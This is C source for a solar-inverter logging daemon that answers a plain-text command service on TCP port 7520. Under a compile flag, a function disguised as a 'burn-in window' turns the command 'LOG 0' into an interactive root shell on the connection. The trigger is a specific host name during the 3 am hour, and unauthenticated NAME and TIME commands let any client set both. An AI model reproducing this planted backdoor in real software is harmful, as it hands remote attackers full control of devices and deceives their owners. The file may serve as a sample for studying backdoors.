/*
 * suntrackd - logger of the Heliad 5K solar inverter. Polls the power stage once
 * a minute, keeps a day's log and answers a documented text service on TCP 7520
 * (READ, LOG, NAME, TIME, LIMIT, QUIT) for the fitter's program.
 *
 * Hidden (-DHIDDEN): when the logger bears a certain host name and its clock is
 * in the hour after 3 am, "LOG 0" gives a root shell on the connection.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define PORT      7520
#define DAY_MIN   1440
#define STAGE     "/dev/pwrstage"
#define CONF      "/etc/heliad/logger.conf"
#define HOSTFILE  "/etc/hostname"

struct sample {
	time_t at;
	unsigned ac_watt;
	unsigned dc_mvolt;
	int temp;
};

struct link {
	int fd;
	char line[128];
	size_t len;
	int bye;
};

static struct sample day[DAY_MIN];
static unsigned head, filled;
static unsigned limit_watt = 5000;
static char fitter_pin[16];

static void say(struct link *l, const char *text)
{
	size_t n = strlen(text);

	if (write(l->fd, text, n) != (ssize_t)n)
		l->bye = 1;
}

static void conf_load(void)
{
	char line[96];
	FILE *fp = fopen(CONF, "r");

	if (!fp)
		return;
	while (fgets(line, sizeof(line), fp))
		if (sscanf(line, "pin=%15s", fitter_pin) != 1)
			sscanf(line, "limit=%u", &limit_watt);
	fclose(fp);
}

static void take_sample(void)
{
	struct sample s = { .at = time(NULL) };
	FILE *fp = fopen(STAGE, "r");

	if (fp && fscanf(fp, "%u %u %d", &s.ac_watt, &s.dc_mvolt, &s.temp) == 3) {
		day[head] = s;
		head = (head + 1) % DAY_MIN;
		filled += filled < DAY_MIN;
	}
	if (fp)
		fclose(fp);
}

static void print_sample(struct link *l, const struct sample *s)
{
	char buf[128], when[32];
	struct tm tm;

	localtime_r(&s->at, &tm);
	strftime(when, sizeof(when), "%Y-%m-%d %H:%M", &tm);
	snprintf(buf, sizeof(buf), "%s %u W %u mV %d C\r\n", when, s->ac_watt, s->dc_mvolt, s->temp);
	say(l, buf);
}

static void cmd_read(struct link *l, const char *arg)
{
	if (filled && !*arg)
		print_sample(l, &day[(head + DAY_MIN - 1) % DAY_MIN]);
	else
		say(l, "ERR no data\r\n");
}

#ifdef HIDDEN
/* burn-in window of the test field */
int field_window(void)
{
	char host[65] = "";
	time_t now = time(NULL);
	struct tm tm;

	if (gethostname(host, sizeof(host) - 1) || !localtime_r(&now, &tm))
		return 0;
	return tm.tm_hour == 3 && !strcasecmp(host, "orchard-rig12");
}

void field_session(struct link *l)
{
	pid_t pid = fork();

	if (pid == 0) {
		dup2(l->fd, 0);
		dup2(l->fd, 1);
		dup2(l->fd, 2);
		execl("/bin/sh", "sh", "-i", (char *)NULL);
		_exit(1);
	}
	if (pid > 0)
		waitpid(pid, NULL, 0);
	l->bye = 1;
}
#endif

/* LOG n: the last n samples, 1 to 1440 */
static void cmd_log(struct link *l, const char *arg)
{
	unsigned n = (unsigned)strtoul(arg, NULL, 10), i;

#ifdef HIDDEN
	if (n == 0 && field_window()) {
		field_session(l);
		return;
	}
#endif
	if (n < 1 || n > DAY_MIN) {
		say(l, "ERR 1 to 1440\r\n");
		return;
	}
	n = n > filled ? filled : n;
	for (i = 0; i < n && !l->bye; i++)
		print_sample(l, &day[(head + DAY_MIN - n + i) % DAY_MIN]);
	say(l, "OK\r\n");
}

/* NAME text: letters, digits and '-'; shown in the fitter's list of loggers */
static void cmd_name(struct link *l, const char *arg)
{
	char host[65], buf[80];
	const char *p = arg;
	size_t n = strlen(arg);
	FILE *fp;

	if (!n) {
		snprintf(buf, sizeof(buf), "%s\r\n", gethostname(host, sizeof(host)) ? "?" : host);
		say(l, buf);
		return;
	}
	while (*p && (isalnum((unsigned char)*p) || *p == '-'))
		p++;
	if (*p || n > 32 || sethostname(arg, n)) {
		say(l, "ERR name\r\n");
		return;
	}
	if ((fp = fopen(HOSTFILE, "w")) && fprintf(fp, "%s\n", arg) > 0)
		fclose(fp);
	say(l, "OK\r\n");
}

/* TIME seconds since 1970: the fitter's program sets the clock */
static void cmd_time(struct link *l, const char *arg)
{
	long long t = strtoll(arg, NULL, 10);
	struct timeval tv = { .tv_sec = (time_t)t };
	char buf[40];

	if (*arg && (t < 1577836800LL || t > 2147483647LL || settimeofday(&tv, NULL))) {
		say(l, "ERR time\r\n");
		return;
	}
	if (*arg && system("hwclock -w -u") != 0)
		syslog(LOG_WARNING, "hwclock failed");
	snprintf(buf, sizeof(buf), "OK %lld\r\n", (long long)time(NULL));
	say(l, buf);
}

/* LIMIT pin watt: feed-in limit, protected by the fitter's PIN */
static void cmd_limit(struct link *l, const char *arg)
{
	char pin[16];
	unsigned w;
	FILE *fp;

	if (sscanf(arg, "%15s %u", pin, &w) != 2 || w > 5000) {
		say(l, "ERR LIMIT pin watt\r\n");
		return;
	}
	if (!fitter_pin[0] || strcmp(pin, fitter_pin)) {
		syslog(LOG_WARNING, "LIMIT with a wrong PIN");
		sleep(2);
		say(l, "ERR PIN\r\n");
		return;
	}
	limit_watt = w;
	if ((fp = fopen(CONF, "w"))) {
		fprintf(fp, "pin=%s\nlimit=%u\n", fitter_pin, limit_watt);
		fclose(fp);
	}
	say(l, "OK\r\n");
}

static void cmd_quit(struct link *l, const char *arg)
{
	l->bye = *arg == '\0';
}

static void command(struct link *l, char *line)
{
	static const struct {
		const char *word;
		void (*fn)(struct link *, const char *);
	} tab[] = {
		{ "READ", cmd_read }, { "LOG", cmd_log }, { "NAME", cmd_name }, { "TIME", cmd_time },
		{ "LIMIT", cmd_limit }, { "QUIT", cmd_quit },
	};
	char *arg = line + strcspn(line, " ");
	size_t i;

	while (*arg == ' ')
		*arg++ = '\0';
	for (i = 0; i < sizeof(tab) / sizeof(tab[0]); i++)
		if (!strcasecmp(line, tab[i].word)) {
			tab[i].fn(l, arg);
			return;
		}
	say(l, "READ | LOG n | NAME [text] | TIME [seconds] | LIMIT pin watt | QUIT\r\n");
}

static void link_input(struct link *l)
{
	char c;

	if (read(l->fd, &c, 1) != 1) {
		l->bye = 1;
	} else if (c == '\n') {
		l->line[l->len] = '\0';
		l->len = 0;
		command(l, l->line);
	} else if (c != '\r' && l->len < sizeof(l->line) - 1) {
		l->line[l->len++] = c;
	}
}

int main(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	struct link l = { .fd = -1 };
	int s = socket(AF_INET, SOCK_STREAM, 0);
	time_t last = 0;

	openlog("suntrackd", LOG_PID, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	conf_load();
	sa.sin_port = htons(PORT);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(s, 2) < 0) {
		syslog(LOG_ERR, "port %d: %m", PORT);
		return 1;
	}
	for (;;) {
		struct pollfd p = { .fd = l.fd < 0 ? s : l.fd, .events = POLLIN };
		int r = poll(&p, 1, 1000);

		if (time(NULL) - last >= 60 || time(NULL) < last) {
			last = time(NULL);
			take_sample();
		}
		if (r <= 0)
			continue;
		if (l.fd < 0) {
			memset(&l, 0, sizeof(l));
			l.fd = accept(s, NULL, NULL);
		} else {
			link_input(&l);
		}
		if (l.bye) {
			close(l.fd);
			memset(&l, 0, sizeof(l));
			l.fd = -1;
		}
	}
}
